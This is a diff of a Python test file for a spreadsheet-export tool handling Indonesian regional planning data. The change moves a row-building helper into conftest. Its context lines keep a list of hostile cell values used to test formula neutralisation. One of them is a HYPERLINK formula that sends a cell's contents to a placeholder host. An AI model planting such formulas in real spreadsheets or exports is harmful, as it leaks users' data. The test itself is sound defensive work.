@@ -16,11 +16,12 @@ import openpyxl
 import pyarrow.parquet as pq
 import pytest
 from conftest import run_renaksi
+from conftest import target_row as row
 
 from normalize.flags import FLAGS
 from renaksi.formulas import neutralise, would_be_formula
 from renaksi.writers import OUTCOME_COLUMNS, Outcome, rows_to_table, table_to_csv_bytes, write_outputs
-from schemas.contract import CONTRACT_COLUMNS, TargetRow
+from schemas.contract import CONTRACT_COLUMNS
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?a="&A1,"klik")',
@@ -31,17 +32,6 @@ HOSTILE = [
     "\t=1+1",
     "\r=1+1",
 ]
-
-
-def row(**changes: object) -> TargetRow:
-    base: dict[str, object] = dict(
-        source_file="a.pdf", agency="Badan Kesatuan Bangsa dan Politik", region="Kabupaten Luwu Timur",
-        fiscal_year=2022, level="kegiatan", sasaran="Terciptanya kerukunan", program="Penguatan",
-        kegiatan="Perumusan kebijakan", subkegiatan=None, indicator="Persentase capaian",
-        quarter=None, target_value=95.0, target_unit="%", target_raw="95%", responsible=None,
-        page=2, confidence=1.0)
-    base.update(changes)
-    return TargetRow(**base)  # type: ignore[arg-type]
 
 
 # a hostile document's cells: in the indicator, the responsible and the printed target; then plain rows
